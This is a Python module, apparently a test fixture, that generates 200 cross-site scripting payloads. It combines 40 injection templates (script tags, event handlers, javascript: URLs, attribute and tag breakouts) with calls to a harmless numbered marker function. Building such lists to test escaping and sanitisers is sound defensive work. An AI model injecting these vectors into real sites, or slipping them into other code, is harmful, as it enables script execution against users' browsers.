"""Two hundred strings that would run a script where they are not shown as text."""

from __future__ import annotations

__all__ = ["HOSTILE"]

_RUN = ("pwned({n})", "top['pwned']({n})", "window.pwned`{n}`", "setTimeout('pwned({n})')", "parent.pwned({n})")
_AROUND = (
    "<script>{run}</script>",
    "</script><script>{run}</script>",
    "<img src=x onerror={run}>",
    "<img src=x onerror=\"{run}\"",
    "\"><img src=x onerror={run}>",
    "'><svg onload={run}>",
    "<svg/onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<body onload={run}>",
    "<iframe src=\"javascript:{run}\"></iframe>",
    "<iframe srcdoc=\"<script>{run}</script>\"></iframe>",
    "<a href=\"javascript:{run}\">click</a>",
    "javascript:{run}",
    "\" autofocus onfocus={run} x=\"",
    "' autofocus onfocus={run} x='",
    "\" onmouseover=\"{run}",
    "<input autofocus onfocus={run}>",
    "<details open ontoggle={run}>x</details>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<object data=\"javascript:{run}\"></object>",
    "<embed src=\"javascript:{run}\">",
    "<math><a xlink:href=\"javascript:{run}\">x</a></math>",
    "<form action=\"javascript:{run}\"><button>x</button></form>",
    "</textarea><script>{run}</script>",
    "</title><script>{run}</script>",
    "</option></select><img src=x onerror={run}>",
    "--><script>{run}</script>",
    "]]><script>{run}</script>",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "';{run};//",
    "\\\";{run};//",
    "</style><script>{run}</script>",
    "<style>@import 'javascript:{run}';</style>",
    "<link rel=stylesheet href=\"javascript:{run}\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:{run}\">",
    "<template><script>{run}</script></template>",
    "<x onclick={run} tabindex=1>x</x>",
    "&lt;script&gt;{run}&lt;/script&gt;",
)  # fmt: skip

HOSTILE = [
    around.format(run=run.format(n=5 * place + number))
    for place, around in enumerate(_AROUND)
    for number, run in enumerate(_RUN)
]
assert len(set(HOSTILE)) == 200
